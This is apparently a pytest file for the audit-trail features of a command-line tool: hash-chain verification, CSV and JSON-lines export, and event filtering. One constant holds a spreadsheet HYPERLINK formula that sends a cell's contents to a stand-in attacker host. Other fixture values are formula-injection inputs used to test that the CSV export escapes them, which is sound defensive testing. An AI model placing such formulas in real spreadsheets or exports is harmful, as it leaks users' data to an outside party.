"""The audit trail from the command line: listed, exported and verified by somebody else."""

from __future__ import annotations

import csv
import hashlib
import io
import json
from typing import TYPE_CHECKING

import pytest

from goodword.actions import audit
from tests.cli.conftest import goodword, settings

if TYPE_CHECKING:
    from collections.abc import Iterator
    from pathlib import Path

    from goodword.db.session import Database

FORMULA = '=HYPERLINK("https://evil.example?"&A1, "click")'
WRITE_CSV = ("audit", "export", "--format", "csv")
WRITE_LINES = ("audit", "export", "--format", "jsonl")


@pytest.fixture
def company(database: Database, tmp_path: Path) -> Iterator[Database]:
    url = database.engine.url.render_as_string(hide_password=False)
    with settings(GOODWORD_HOME=str(tmp_path), GOODWORD_DATABASE_URL=url, USER="olivia"):
        with database.transaction() as tx:
            events = [
                audit.Event("ann", "approved", "reward", 1, "株 \U0001f600", {"minor": -5}),
                audit.Event("bob", "rejected", "reward", 2, FORMULA, {"note": "@SUM(1)"}),
                audit.Event("ann", "link\r\n=1", "refund", 3, "-2", {}),
            ]
            audit.record(tx, events)
        yield database


@pytest.mark.usefixtures("company")
def test_json_lines_can_be_verified_without_this_program() -> None:
    previous = "0" * 64
    lines = goodword(*WRITE_LINES).out.splitlines()
    for line in lines:
        event = json.loads(line)
        names = "id at actor action subject subject_id reason facts".split()
        said = json.dumps([previous, *(event[name] for name in names)])
        assert event["previous_hash"] == previous
        assert event["hash"] == hashlib.sha256(said.encode()).hexdigest()
        previous = event["hash"]
    assert len(lines) == 3


@pytest.mark.usefixtures("company")
def test_no_cell_of_a_spreadsheet_is_a_formula() -> None:
    rows = list(csv.DictReader(io.StringIO(goodword(*WRITE_CSV).out)))
    assert rows[1]["reason"] == f"'{FORMULA}"
    assert rows[2]["reason"] == "-2"
    assert not [cell for row in rows for cell in row.values() if cell[:1] in set("=+@\t\r\n")]


@pytest.mark.usefixtures("company")
def test_an_export_is_an_event_and_is_never_written_over_another(tmp_path: Path) -> None:
    to = ("--to", str(tmp_path / "trail.csv"), "--as", "ann")
    assert goodword(*WRITE_CSV, *to).code == 0
    assert (tmp_path / "trail.csv").stat().st_mode & 0o077 == 0, "it is its owner's"
    assert goodword(*WRITE_CSV, *to).code == 1
    (newest, *_) = goodword("audit", "list", "--json").document
    assert (newest["actor"], newest["action"], newest["subject_id"]) == ("ann", "exported", 3)
    assert json.loads(newest["facts"]) == {"format": "csv", "events": 3}


@pytest.mark.usefixtures("company")
def test_events_are_found_by_who_what_and_when() -> None:
    def found(*words: str) -> list[int]:
        return [event["id"] for event in goodword("audit", "list", *words, "--json").document]

    assert found() == [3, 2, 1]
    assert found("--by", "ann") == [3, 1]
    assert found("--about", "reward") == [2, 1]
    assert found("--about", "reward:2") == [2]
    assert found("--action", "approved", "--since", "2026-01-01") == [1]
    assert found("--until", "2026-01-01") == []
    assert goodword("audit", "list", "--about", "reward:x").code == 2


@pytest.mark.usefixtures("company")
def test_check_tells_whether_a_noted_event_is_still_there() -> None:
    noted = goodword("audit", "head").out.strip()
    assert noted.startswith("3:")
    assert goodword("check", "--audit", "--noted", noted).code == 0
    alone = goodword("check", "--noted", noted.replace("3:", "4:"))
    assert alone.code == 1, "what was noted is compared, also where --audit is forgotten"
    said = goodword("check", "--audit", "--noted", noted.replace("3:", "4:"))
    assert (said.code, "event 4 of the audit trail is not there" in said.out) == (1, True)
